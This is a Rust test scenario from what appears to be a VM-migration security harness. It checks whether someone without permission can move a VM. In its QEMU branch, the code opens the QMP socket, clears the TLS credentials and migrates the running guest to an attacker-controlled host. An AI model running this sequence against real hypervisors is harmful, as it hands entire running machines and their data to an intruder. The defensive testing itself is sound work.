//! Somebody may speak to the management and has no right to move the VM (T1, T2, T10).

use anyhow::{Context, Result};
use serde_json::json;
use uuid::Uuid;

use super::mover::{MOVED, Mover, beats_on, hosts, send, words};
use super::{Carrier, Found, VM, prey};
use crate::host::SHORT;
use crate::transport::{PORT, Transport};
use crate::trust::{JudgingRig, decisions, identity};

const ID: Uuid = Uuid::from_u128(0x7a1c_0000_0000_4000_8000_0000_0000_00a1);

pub(super) fn run(carrier: Carrier) -> Result<Found> {
    match carrier {
        Carrier::Qemu(transport) => on_qemu(transport),
        Carrier::Palanquin => on_palanquin(),
    }
}

fn on_qemu(transport: Transport) -> Result<Found> {
    let rig = hosts(&["a", "b", "c"])?;
    let mover = Mover::boot(&rig, transport, 1)?;
    let attacker = &rig.hosts[2];
    let his = mover.open_receiver(attacker)?;
    // QEMU serves one manager at a time, and asks nobody who he is: another one comes when this one has gone.
    let Mover { qemu, qmp, .. } = mover;
    drop(qmp);
    let mut qmp = qemu.qmp()?;
    if transport == Transport::Tls {
        let nothing = json!({"tls-creds": "", "tls-hostname": ""});
        qmp.execute("migrate-set-parameters", &nothing)?;
    }
    let uri = format!("tcp:{}:{PORT}", attacker.spec.address);
    let sent = send(&mut qmp, &uri, MOVED)?;
    let there = his.beats_on()?;
    let here = beats_on(&qemu, Some(&mut qmp))?.is_some();
    let what = format!(
        "whoever may open the QMP socket is asked for nothing: he ordered `migrate {uri}`; the source says {sent}"
    );
    Ok(match there {
        Some(beat) => Found::succeeded(format!(
            "{what}; the guest runs at the attacker's host, at beat {beat}, and at the source: {here}"
        )),
        None => Found::detected(format!("{what}; the guest goes on at the source: {here}")),
    })
}

fn on_palanquin() -> Result<Found> {
    let mut judging = JudgingRig::new()?;
    let passport = judging.passport(ID, 1, "")?;
    judging.rig.hosts[0].boot_with(&prey(), &["--passport", &passport])?;
    // An operator of this host, whom policies permit nothing with this owner's VMs.
    judging.set_operator(0, "mallory")?;
    judging.rig.hosts[0].stop_agent()?;
    judging.rig.hosts[0].start_agent()?;
    let first = judging.rig.migrate(VM, 0, 1, &[])?;
    let recorded = decisions(&judging.rig.hosts[0])?;
    let last = recorded.last().context("nothing was decided")?.clone();
    // Then whoever may, to a host that may not receive: its certificate is of another authority.
    judging.set_operator(0, "alice")?;
    judging.rig.authority("other")?;
    let foreign = judging.rig.issue("other", "host", "b")?;
    judging.rig.hosts[1].spec.identity = foreign;
    judging.rig.hosts[1].write_config()?;
    for host in &mut judging.rig.hosts {
        host.stop_agent()?;
        host.start_agent()?;
    }
    let second = judging.rig.migrate(VM, 0, 1, &[])?;
    let rig = &judging.rig;
    let arrived = rig.hosts[1].vm(VM)?.is_some() || !rig.hosts[1].qemus()?.is_empty();
    let sent: u64 = rig.hosts[0]
        .migrations()?
        .iter()
        .map(|info| info.pages_sent)
        .sum();
    let journaled = !last.permitted && last.operator == identity("operator", "mallory");
    let what = format!(
        "an operator of another owner: {}; journaled as a refusal: {journaled}; to a host of another authority: {}; {sent} \
         pages sent",
        words(&first)?,
        words(&second)?
    );
    if arrived || first.status == 0 || second.status == 0 {
        return Ok(Found::succeeded(what));
    }
    rig.hosts[0].console(VM)?.wait_beats(2, SHORT)?;
    Ok(Found::detected(format!(
        "{what}; the guest goes on at the source"
    )))
}
